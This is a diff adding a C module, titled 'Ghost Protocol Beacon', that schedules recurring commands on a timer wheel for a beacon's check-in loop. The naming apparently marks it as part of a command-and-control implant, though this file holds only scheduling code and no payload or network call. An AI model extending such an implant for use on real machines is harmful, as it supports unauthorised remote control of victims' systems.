@@ -0,0 +1,255 @@
+/*
+ * Ghost Protocol Beacon - Recurring Commands Implementation
+ * Keeps scheduled commands on a timer wheel and hands their runs to the check-in loop
+ */
+
+#include "recurring.h"
+#include "command_registry.h"
+#include "json.h"
+#include "poll_schedule.h"
+#include "records.h"
+
+#include <limits.h>
+
+typedef struct {
+    timer_entry_t timer;          // first member, so an expired entry is its task
+    char id[COMMAND_ID_MAX];      // schedule id; run n reports as "<id>.<n>"
+    command_record_t* command;    // heap template holding the resolved name, args and opcode
+    uint64_t interval;            // ticks between runs
+    int remaining;
+    int runs;
+    int in_use;
+} recurring_task_t;
+
+static recurring_task_t g_tasks[RECURRING_MAX_TASKS];
+static timer_wheel_t g_wheel;
+static long long g_epoch_ms;
+static int g_task_count = 0;
+
+static uint64_t current_tick(void) {
+    return (uint64_t)(monotonic_ms() - g_epoch_ms) / RECURRING_TICK_MS;
+}
+
+void recurring_init(void) {
+    memset(g_tasks, 0, sizeof(g_tasks));
+    g_epoch_ms = monotonic_ms();
+    g_task_count = 0;
+    timer_wheel_init(&g_wheel, 0);
+}
+
+static recurring_task_t* find_task(const char* id) {
+    for (int i = 0; i < RECURRING_MAX_TASKS; i++) {
+        if (g_tasks[i].in_use && strcmp(g_tasks[i].id, id) == 0) {
+            return &g_tasks[i];
+        }
+    }
+    return NULL;
+}
+
+static void release_task(recurring_task_t* task) {
+    timer_wheel_remove(&g_wheel, &task->timer);
+    record_free(NULL, task->command);
+    memset(task, 0, sizeof(recurring_task_t));
+    g_task_count--;
+}
+
+// Template for the runs: an empty id, then the command's name and args
+static command_record_t* template_command(const char* name, const char* args) {
+    size_t name_length = strlen(name);
+    size_t args_length = strlen(args);
+    command_record_t* command = command_record_alloc(NULL, name_length + args_length + 3);
+    if (!command) {
+        return NULL;
+    }
+    
+    command->name_length = (unsigned int)name_length;
+    command->args_length = (unsigned int)args_length;
+    COMMAND_ID(command)[0] = '\0';
+    memcpy(COMMAND_NAME(command), name, name_length + 1);
+    memcpy(COMMAND_ARGS(command), args, args_length + 1);
+    return command;
+}
+
+static int cancel_schedule(const char* id, arena_t* arena, result_record_t** result) {
+    recurring_task_t* task = find_task(id);
+    if (!task) {
+        result_record_printf(arena, result, "No schedule %s", id);
+        return 0;
+    }
+    
+    result_record_printf(arena, result, "Cancelled schedule %s after %d runs", id, task->runs);
+    release_task(task);
+    return 1;
+}
+
+// Args are {"command": ..., "args": ..., "interval": seconds, "count": runs}, or
+// {"cancel": "<schedule id>"}. The schedule takes this command's id, and the first run
+// starts on the next pass of the check-in loop
+int command_schedule(const command_record_t* cmd, arena_t* arena, result_record_t** result) {
+    const char* args = COMMAND_ARGS(cmd);
+    size_t size = cmd->args_length + 1;
+    char* name = record_alloc(arena, size);
+    char* run_args = record_alloc(arena, size);
+    char number[32];
+    int success = 0;
+    
+    if (!name || !run_args) {
+        record_free(arena, name);
+        record_free(arena, run_args);
+        result_record_printf(arena, result, "Out of memory");
+        return 0;
+    }
+    
+    if (json_get_string(args, cmd->args_length, "cancel", name, size) == 0) {
+        success = cancel_schedule(name, arena, result);
+        record_free(arena, name);
+        record_free(arena, run_args);
+        return success;
+    }
+    
+    long interval = 0;
+    long count = 0;
+    if (json_get_string(args, cmd->args_length, "interval", number, sizeof(number)) == 0) {
+        interval = strtol(number, NULL, 10);
+    }
+    if (json_get_string(args, cmd->args_length, "count", number, sizeof(number)) == 0) {
+        count = strtol(number, NULL, 10);
+    }
+    if (json_get_string(args, cmd->args_length, "command", name, size) != 0) {
+        name[0] = '\0';
+    }
+    if (json_get_string(args, cmd->args_length, "args", run_args, size) != 0) {
+        run_args[0] = '\0';
+    }
+    
+    // Room for the longest run suffix once the id is kept in full
+    snprintf(number, sizeof(number), ".%ld", count);
+    command_record_t* command = NULL;
+    const command_spec_t* spec = NULL;
+    recurring_task_t* task = NULL;
+    
+    if (name[0] == '\0' || interval < 1 || interval > 86400 || count < 1) {
+        result_record_printf(arena, result, "Schedule needs a command, an interval of 1-86400 seconds and a count");
+    } else if (cmd->id_length + strlen(number) >= COMMAND_ID_MAX) {
+        result_record_printf(arena, result, "Schedule id too long");
+    } else if (find_task(COMMAND_ID(cmd))) {
+        result_record_printf(arena, result, "Schedule %s already exists", COMMAND_ID(cmd));
+    } else if (g_task_count >= RECURRING_MAX_TASKS) {
+        result_record_printf(arena, result, "Schedule table full (%d tasks)", RECURRING_MAX_TASKS);
+    } else if ((command = template_command(name, run_args)) == NULL) {
+        result_record_printf(arena, result, "Out of memory");
+    } else if ((spec = command_resolve(command)) == NULL) {
+        result_record_printf(arena, result, "Unknown command: %s", name);
+    } else if (spec->opcode == COMMAND_OP_SCHEDULE || spec->opcode == COMMAND_OP_EXIT) {
+        // A schedule that schedules, or stops the beacon, has no sensible second run
+        result_record_printf(arena, result, "Command %s cannot be scheduled", name);
+    } else {
+        for (int i = 0; i < RECURRING_MAX_TASKS && !task; i++) {
+            if (!g_tasks[i].in_use) {
+                task = &g_tasks[i];
+            }
+        }
+        
+        memcpy(task->id, COMMAND_ID(cmd), cmd->id_length + 1);
+        task->command = command;
+        task->interval = (uint64_t)interval * 1000 / RECURRING_TICK_MS;
+        task->remaining = (int)(count < INT_MAX ? count : INT_MAX);
+        task->runs = 0;
+        task->in_use = 1;
+        task->timer.level = -1;
+        g_task_count++;
+        timer_wheel_add(&g_wheel, &task->timer, current_tick());
+        command = NULL;
+        
+        result_record_printf(arena, result, "Scheduled %s every %lds, %ld runs", name, interval, count);
+        success = 1;
+    }
+    
+    record_free(NULL, command);
+    record_free(arena, name);
+    record_free(arena, run_args);
+    return success;
+}
+
+static command_record_t* run_command(arena_t* arena, recurring_task_t* task) {
+    const command_record_t* template = task->command;
+    char id[COMMAND_ID_MAX];
+    int id_length = snprintf(id, sizeof(id), "%s.%d", task->id, task->runs);
+    
+    command_record_t* run = command_record_alloc(arena, id_length + template->name_length + template->args_length + 3);
+    if (!run) {
+        return NULL;
+    }
+    
+    run->id_length = (unsigned int)id_length;
+    run->name_length = template->name_length;
+    run->args_length = template->args_length;
+    run->opcode = template->opcode;
+    run->scheduled = 1;
+    memcpy(COMMAND_ID(run), id, id_length + 1);
+    memcpy(COMMAND_NAME(run), COMMAND_NAME(template), template->name_length + template->args_length + 2);
+    return run;
+}
+
+// Builds a command record for every run that has fallen due, numbered from 1. A task is
+// re-armed one interval after its previous slot, or one interval from now if the loop fell
+// that far behind, so a stalled beacon runs it once late rather than in a burst
+int recurring_due(arena_t* arena, command_record_t** runs, int max_runs) {
+    uint64_t now = current_tick();
+    timer_entry_t* expired = timer_wheel_advance(&g_wheel, now);
+    int count = 0;
+    
+    while (expired) {
+        timer_entry_t* next = expired->next;
+        recurring_task_t* task = (recurring_task_t*)expired;
+        
+        // Out of room this pass: the run stays due and goes out on the next one
+        if (count >= max_runs) {
+            timer_wheel_add(&g_wheel, &task->timer, now);
+            expired = next;
+            continue;
+        }
+        
+        task->runs++;
+        command_record_t* run = run_command(arena, task);
+        if (run) {
+            runs[count++] = run;
+        } else {
+            printf("[-] Out of memory, skipping run %d of schedule %s\n", task->runs, task->id);
+        }
+        
+        if (--task->remaining > 0) {
+            uint64_t expires = task->timer.expires + task->interval;
+            timer_wheel_add(&g_wheel, &task->timer, expires > now ? expires : now + task->interval);
+        } else {
+            release_task(task);
+        }
+        expired = next;
+    }
+    
+    return count;
+}
+
+// Milliseconds until a run may fall due, or -1 with nothing scheduled. Never late, though it
+// may be early for a run far enough ahead to sit on the wheel's upper levels
+int recurring_next_ms(void) {
+    int64_t ticks = timer_wheel_next(&g_wheel);
+    if (ticks < 0) {
+        return -1;
+    }
+    
+    long long due = (long long)(g_wheel.next_tick + (uint64_t)ticks) * RECURRING_TICK_MS;
+    long long remaining = due - (monotonic_ms() - g_epoch_ms);
+    if (remaining < 0) {
+        return 0;
+    }
+    return remaining < INT_MAX ? (int)remaining : INT_MAX;
+}
+
+void recurring_shutdown(void) {
+    for (int i = 0; i < RECURRING_MAX_TASKS; i++) {
+        if (g_tasks[i].in_use) {
+            release_task(&g_tasks[i]);
+        }
+    }
+}